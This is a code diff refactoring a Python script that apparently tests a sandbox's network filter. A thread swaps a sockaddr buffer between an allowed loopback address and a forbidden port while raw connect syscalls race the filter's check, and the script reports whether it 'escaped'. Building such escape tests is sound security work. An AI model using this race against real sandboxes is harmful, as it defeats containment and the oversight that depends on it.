@@ -6,33 +6,38 @@ import struct
 import threading
 import time
 
-from attack import OUTSIDE, number, verdict
+from attack import OUTSIDE, syscall_number, verdict
+
+SECONDS = 0.4
+ADDRESS_BYTES = 16
+
+
+def loopback_address(port):
+    family = struct.pack("=H", socket.AF_INET)
+    return family + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
+
 
 libc = ctypes.CDLL(None, use_errno=True)
-own = socket.create_server(("127.0.0.1", 0), backlog=4096)
-good = (
-    struct.pack("=H", socket.AF_INET)
-    + struct.pack(">H", own.getsockname()[1])
-    + bytes([127, 0, 0, 1])
-    + bytes(8)
-)
-bad = good[:2] + struct.pack(">H", OUTSIDE["port"]) + good[4:]
-buffer = ctypes.create_string_buffer(good, 16)
-going = True
+server = socket.create_server(("127.0.0.1", 0), backlog=4096)
+own_address = loopback_address(server.getsockname()[1])
+other_address = loopback_address(OUTSIDE["port"])
+buffer = ctypes.create_string_buffer(own_address, ADDRESS_BYTES)
+stopped = threading.Event()
 
 
 def flip():
-    while going:
-        ctypes.memmove(buffer, bad, 16)
-        ctypes.memmove(buffer, good, 16)
+    while not stopped.is_set():
+        ctypes.memmove(buffer, other_address, ADDRESS_BYTES)
+        ctypes.memmove(buffer, own_address, ADDRESS_BYTES)
 
 
 threading.Thread(target=flip, daemon=True).start()
 escaped = False
-until = time.monotonic() + 0.4
-while time.monotonic() < until and not escaped:
+deadline = time.monotonic() + SECONDS
+while time.monotonic() < deadline and not escaped:
     with socket.socket() as sock:
-        if libc.syscall(number("connect"), sock.fileno(), buffer, 16) == 0:
+        result = libc.syscall(syscall_number("connect"), sock.fileno(), buffer, ADDRESS_BYTES)
+        if result == 0:
             escaped = sock.getpeername()[1] == OUTSIDE["port"]
-going = False
+stopped.set()
 verdict(escaped)
